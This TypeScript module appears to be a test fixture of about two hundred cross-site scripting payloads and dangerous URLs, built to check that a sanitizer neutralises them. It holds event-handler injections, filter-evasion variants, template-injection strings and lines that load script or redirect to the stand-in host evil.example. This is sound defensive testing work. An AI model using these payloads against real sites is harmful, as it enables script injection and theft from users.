/** Calls this, should one of them ever be run. */
export const CALLED = 'x50called'
/** Attribute of every element that a vector would make, were it ever taken for markup. */
export const MARKED = 'data-x50'

const RUN = `${CALLED}()`
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'iframe src=javascript:0',
  'input autofocus',
  'details open',
  'video><source src=x',
  'audio src=x',
  'marquee',
  'object data=x',
]
// What ends the text or the attribute that it may have been put into.
const ENDINGS = [
  '',
  '">',
  "'>",
  '</script>',
  '</textarea>',
  '</title>',
  '-->',
  ']]>',
  '</style>',
  '\\">',
  '`>',
  '</noscript>',
]
const PLAIN = [
  `<script ${MARKED}>${RUN}</script>`,
  `<ScRiPt ${MARKED}>${RUN}</sCrIpT>`,
  `<script ${MARKED} src=//evil.example/x.js></script>`,
  `<scr<script>ipt ${MARKED}>${RUN}</scr</script>ipt>`,
  `<a ${MARKED} href="javascript:${RUN}">a</a>`,
  `<a ${MARKED} href="java\tscript:${RUN}">a</a>`,
  `<a ${MARKED} href="data:text/html,<script>${RUN}</script>">a</a>`,
  `<form ${MARKED} action=javascript:${RUN}><button>a</button></form>`,
  `<base ${MARKED} href=//evil.example/>`,
  `<meta ${MARKED} http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link ${MARKED} rel=stylesheet href=//evil.example/x.css>`,
  `<style ${MARKED}>@import '//evil.example/x.css';</style>`,
  `<svg ${MARKED}><script>${RUN}</script></svg>`,
  `<svg ${MARKED}><animate onbegin=${RUN} attributeName=x></svg>`,
  `<math ${MARKED}><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template ${MARKED}><img src=x onerror=${RUN}></template>`,
  `<iframe ${MARKED} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<img ${MARKED} name=getElementById><form id=root>`,
  `&lt;img ${MARKED} src=x onerror=${RUN}&gt;`,
  `\\u003cimg ${MARKED} src=x onerror=${RUN}\\u003e`,
  `%3Cimg ${MARKED} src=x onerror=${RUN}%3E`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `[a](javascript:${RUN})`,
  `![a](x"onerror="${RUN})`,
  `\u202e<img ${MARKED} src=x onerror=${RUN}>`,
  `<img ${MARKED} src="x\`\`onerror=${RUN}">`,
]

/** Two hundred texts that would be script in a page that takes texts for markup. */
export const VECTORS: readonly string[] = [
  ...PLAIN,
  ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${MARKED} ${handler}=${RUN}>`)),
  ...ENDINGS.flatMap((ending) => HANDLERS.map((handler) => `${ending}<img ${MARKED} src=x ${handler}="${RUN}">`)),
].slice(0, 200)

/** Addresses that are no addresses of a page; each runs something or leads elsewhere unseen. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `https://example.com@evil.example/`,
]
